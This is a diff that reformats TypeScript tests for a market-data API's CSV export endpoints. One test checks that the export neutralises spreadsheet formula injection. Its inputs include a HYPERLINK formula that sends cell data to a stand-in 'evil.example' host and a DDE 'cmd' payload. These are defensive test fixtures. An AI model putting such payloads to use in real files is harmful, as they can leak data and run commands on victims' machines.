@@ -37,19 +37,49 @@ describe('GET /api/export/bars.csv', () => {
     const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-27&to=2025-01-27');
     const text = csv.bytes.toString('utf8');
     expect(text).toContain('NVDA,USD,2025-01-27,124.8,128.4,116.7,118.42,');
-    await upsertDailyBars(t.db.pool, [{ symbol: 'SMH', date: '2031-01-02', open: null, high: null, low: null, close: 250.5, adjClose: null, volume: null }], { source: 'test' });
+    await upsertDailyBars(
+      t.db.pool,
+      [{ symbol: 'SMH', date: '2031-01-02', open: null, high: null, low: null, close: 250.5, adjClose: null, volume: null }],
+      { source: 'test' },
+    );
     const withNulls = await getCsv(t.app.url, '/api/export/bars.csv?symbols=SMH&from=2031-01-02&to=2031-01-02');
-    expect(withNulls.bytes.toString('utf8')).toBe('symbol,currency,date,open,high,low,close,adjClose,volume,provisional\r\nSMH,USD,2031-01-02,,,,250.5,,,false\r\n');
+    expect(withNulls.bytes.toString('utf8')).toBe(
+      'symbol,currency,date,open,high,low,close,adjClose,volume,provisional\r\nSMH,USD,2031-01-02,,,,250.5,,,false\r\n',
+    );
   });
 
   it('prints every double as JavaScript does (shortest round-trip), whatever its size', async () => {
-    await saveInstrument(t.db.pool, { symbol: 'PREC', name: 'precision probe', exchange: 'US', currency: 'USD', timeZone: 'America/New_York', kind: 'equity', benchmarkSymbol: null });
-    const edge = [0.1 + 0.2, 118.42, -0.1697, 1e-7, 0.00001234, 5e-324, 1.7976931348623157e308, 123456789012345680000, 1e21, -0, 2 ** 53 + 2];
+    await saveInstrument(t.db.pool, {
+      symbol: 'PREC',
+      name: 'precision probe',
+      exchange: 'US',
+      currency: 'USD',
+      timeZone: 'America/New_York',
+      kind: 'equity',
+      benchmarkSymbol: null,
+    });
+    const edge = [
+      0.1 + 0.2,
+      118.42,
+      -0.1697,
+      1e-7,
+      0.00001234,
+      5e-324,
+      1.7976931348623157e308,
+      123456789012345680000,
+      1e21,
+      -0,
+      2 ** 53 + 2,
+    ];
     const random = fc.sample(fc.double({ noNaN: true, noDefaultInfinity: true }), { numRuns: 3000, seed: 20250127 });
     const values = [...edge, ...random];
     const day0 = Date.UTC(2040, 0, 1);
     const dateOf = (i: number) => new Date(day0 + i * 86_400_000).toISOString().slice(0, 10);
-    await upsertDailyBars(t.db.pool, values.map((v, i) => ({ symbol: 'PREC', date: dateOf(i), open: v, high: null, low: null, close: v, adjClose: null, volume: null })), { source: 'test' });
+    await upsertDailyBars(
+      t.db.pool,
+      values.map((v, i) => ({ symbol: 'PREC', date: dateOf(i), open: v, high: null, low: null, close: v, adjClose: null, volume: null })),
+      { source: 'test' },
+    );
     const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=PREC');
     expect(csv.rows).toHaveLength(values.length);
     csv.rows.forEach((row, i) => {
@@ -139,7 +169,20 @@ describe('GET /api/export/bars.csv', () => {
 });
 
 describe('GET /api/export/moves.csv', () => {
-  const MOVE_HEADER = ['moveId', 'symbol', 'date', 'move', 'return', 'abnormalReturn', 'z', 'rule', 'detectedAt', 'eventSlug', 'eventOffset', 'eventOrigin'];
+  const MOVE_HEADER = [
+    'moveId',
+    'symbol',
+    'date',
+    'move',
+    'return',
+    'abnormalReturn',
+    'z',
+    'rule',
+    'detectedAt',
+    'eventSlug',
+    'eventOffset',
+    'eventOrigin',
+  ];
 
   /** GET /api/moves flattened the way the export lays moves out: one row per move and linked event. */
   const expectedRows = (moves: DetectedMove[]) =>
@@ -169,7 +212,13 @@ describe('GET /api/export/moves.csv', () => {
   });
 
   it('filters by symbol, dates and a minimum |move| in percent, as GET /api/moves does', async () => {
-    for (const q of ['min=5', 'symbol=NVDA,6857.T&from=2025-01-01&to=2025-01-31', 'symbol=NVDA&min=16.96', 'min=16.97', 'from=2025-03-01']) {
+    for (const q of [
+      'min=5',
+      'symbol=NVDA,6857.T&from=2025-01-01&to=2025-01-31',
+      'symbol=NVDA&min=16.96',
+      'min=16.97',
+      'from=2025-03-01',
+    ]) {
       const csv = await getCsv(t.app.url, `/api/export/moves.csv?${q}`);
       const { moves } = await json(`/api/moves?limit=5000&${q}`);
       expect([q, cellsOf(csv)]).toEqual([q, expectedRows(moves)]);
@@ -183,12 +232,20 @@ describe('GET /api/export/moves.csv', () => {
     const csv = await getCsv(t.app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-27&to=2025-01-27');
     const move = String(118.42 / 142.62 - 1);
     expect(move.startsWith('-0.1696')).toBe(true);
-    expect(csv.bytes.toString('utf8')).toMatch(new RegExp(`\\r\\n\\d+,NVDA,2025-01-27,${move.replace('.', '\\.')},-0\\.\\d+,-0\\.\\d+,-\\d`));
+    expect(csv.bytes.toString('utf8')).toMatch(
+      new RegExp(`\\r\\n\\d+,NVDA,2025-01-27,${move.replace('.', '\\.')},-0\\.\\d+,-0\\.\\d+,-\\d`),
+    );
     expect(Number(csv.rows[0].move)).toBeCloseTo(-0.1697, 4);
   });
 
   it('400s a bad minimum or date and 404s an unknown symbol', async () => {
-    for (const [q, param] of [['min=-5', 'min'], ['min=five', 'min'], ['min=101', 'min'], ['from=2025-01-32', 'from'], ['limit=5', 'limit']]) {
+    for (const [q, param] of [
+      ['min=-5', 'min'],
+      ['min=five', 'min'],
+      ['min=101', 'min'],
+      ['from=2025-01-32', 'from'],
+      ['limit=5', 'limit'],
+    ]) {
       const res = await fetch(`${t.app.url}/api/export/moves.csv?${q}`);
       expect([q, res.status]).toEqual([q, 400]);
       expect((await res.json()).error.message).toContain(param);
@@ -207,10 +264,28 @@ describe('GET /api/export/events.csv', () => {
     const expected: string[][] = [];
     for (const listed of events) {
       const { event } = await json(`/api/events/${listed.slug}`);
-      const eventCells = [event.slug, expectedTextCell(event.title), expectedCell(event.occurredAt), event.date, expectedCell(event.dateOnly), event.kind, expectedTextCell(event.description)];
+      const eventCells = [
+        event.slug,
+        expectedTextCell(event.title),
+        expectedCell(event.occurredAt),
+        event.date,
+        expectedCell(event.dateOnly),
+        event.kind,
+        expectedTextCell(event.description),
+      ];
       if (event.news.length === 0) expected.push([...eventCells, '', '', '', '', '', '', '', '']);
       for (const n of event.news) {
-        expected.push([...eventCells, n.role, expectedTextCell(n.url), expectedTextCell(n.title), expectedTextCell(n.publisher), expectedCell(n.publishedAt), n.date, expectedCell(n.dateOnly), expectedTextCell(n.kind)]);
+        expected.push([
+          ...eventCells,
+          n.role,
+          expectedTextCell(n.url),
+          expectedTextCell(n.title),
+          expectedTextCell(n.publisher),
+          expectedCell(n.publishedAt),
+          n.date,
+          expectedCell(n.dateOnly),
+          expectedTextCell(n.kind),
+        ]);
       }
     }
     expect(expected.length).toBeGreaterThan(events.length);
@@ -225,10 +300,32 @@ describe('GET /api/export/events.csv', () => {
   });
 
   it('neutralises text a spreadsheet would run as a formula, and only that', async () => {
-    const titles = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'Nvidia -17%, "worst day"\nsince 2020', 'a=b is fine'];
-    const eventId = await upsertEvent(t.db.pool, { slug: 'formula-injection', title: titles[0], occurredAt: new Date('2031-05-01T10:00:00Z'), dateOnly: false, kind: '@kind', description: '-fell 17%' });
+    const titles = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      'Nvidia -17%, "worst day"\nsince 2020',
+      'a=b is fine',
+    ];
+    const eventId = await upsertEvent(t.db.pool, {
+      slug: 'formula-injection',
+      title: titles[0],
+      occurredAt: new Date('2031-05-01T10:00:00Z'),
+      dateOnly: false,
+      kind: '@kind',
+      description: '-fell 17%',
+    });
     for (const [i, title] of titles.entries()) {
-      const newsId = await upsertNews(t.db.pool, { url: `https://example.test/news/${i}`, title, publisher: i === 0 ? '=cmd()' : 'Example', publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)), dateOnly: false });
+      const newsId = await upsertNews(t.db.pool, {
+        url: `https://example.test/news/${i}`,
+        title,
+        publisher: i === 0 ? '=cmd()' : 'Example',
+        publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)),
+        dateOnly: false,
+      });
       await attachNews(t.db.pool, eventId, newsId, 'coverage');
     }
     const csv = await getCsv(t.app.url, '/api/export/events.csv');
@@ -243,7 +340,12 @@ describe('GET /api/export/events.csv', () => {
       'Nvidia -17%, "worst day"\nsince 2020',
       'a=b is fine',
     ]);
-    expect(rows[0]).toMatchObject({ eventTitle: `'${titles[0]}`, eventKind: `'@kind`, eventDescription: `'-fell 17%`, newsPublisher: `'=cmd()` });
+    expect(rows[0]).toMatchObject({
+      eventTitle: `'${titles[0]}`,
+      eventKind: `'@kind`,
+      eventDescription: `'-fell 17%`,
+      newsPublisher: `'=cmd()`,
+    });
     // the JSON API keeps the text as stored; the guard belongs to the spreadsheet format
     const { event } = await json('/api/events/formula-injection');
     expect(event.title).toBe(titles[0]);
